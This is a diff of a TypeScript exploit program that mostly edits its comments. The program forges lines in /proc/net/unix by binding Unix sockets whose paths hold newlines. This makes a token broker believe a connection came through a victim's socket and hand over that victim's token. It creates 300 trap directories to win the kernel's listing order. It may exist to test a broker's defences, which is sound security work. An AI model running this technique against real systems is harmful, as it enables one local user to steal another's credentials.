@@ -1,12 +1,11 @@
 /**
- * A program that a user runs who wants another one's token. The kernel lists a Unix socket in
- * /proc/net/unix with the path that it was bound to, as it is, and a path may hold a newline: so a user
- * can write lines there. This one says that the connection, known by its inode, came in by the victim's
- * socket.
+ * An attack by a user who wants another user's token. The kernel lists a Unix socket in /proc/net/unix with
+ * the path that it was bound to, unescaped. A path may contain a newline, so a user can add lines there. This
+ * program adds one that claims that the connection, by its inode, came through the victim's socket.
  *
  *     broker-trap OWN_SOCKET VICTIMS_SOCKET REQUEST
  *
- * Prints what the lines said before the request was sent, and the answer, as JSON.
+ * Prints the lines as they were before the request, and the answer, as JSON.
  */
 import { mkdirSync, readFileSync, renameSync } from 'node:fs';
 import { connect, createServer } from 'node:net';
@@ -20,7 +19,7 @@ interface Line {
 
 const [own = '', victims = '', request = ''] = process.argv.slice(2);
 
-/** As whoever splits the file at newlines reads it. */
+/** Splits the file at newlines, as a naive reader does. */
 function lines(): Line[] {
   const text = readFileSync('/proc/self/net/unix', 'utf8');
   return [...text.matchAll(/^\S+ \S+ \S+ \S+ \S+ (\S+) +(\d+) (\/.*)$/gm)].map(
@@ -33,8 +32,8 @@ function accepted(): string[] {
   return lines().flatMap(({ state, inode, path }) => (path === own && state === '03' ? inode : []));
 }
 
-// The kernel lists sockets by the last eight bits of their files' inodes, the newest first: of so many in
-// a row, one stands before the true line.
+// The kernel sorts sockets by the last eight bits of their inodes, the newest first: of this many, one is
+// listed before the true line.
 const traps = Array.from({ length: 300 }, (_, number) => `x${number}`);
 for (const name of traps) mkdirSync(join(name, dirname(victims)), { recursive: true });
 const before = new Set(accepted());
@@ -50,7 +49,7 @@ connection.on('connect', () => {
       .unref();
   }
   const trap = lines().find((line) => line.inode === inode)?.path;
-  // A broker that believes the list has looked at it long before.
+  // A broker that trusted the list would have read it long before.
   setTimeout(() => connection.write(request), 1_500);
   let answer = '';
   connection.on('data', (data) => (answer += data.toString()));
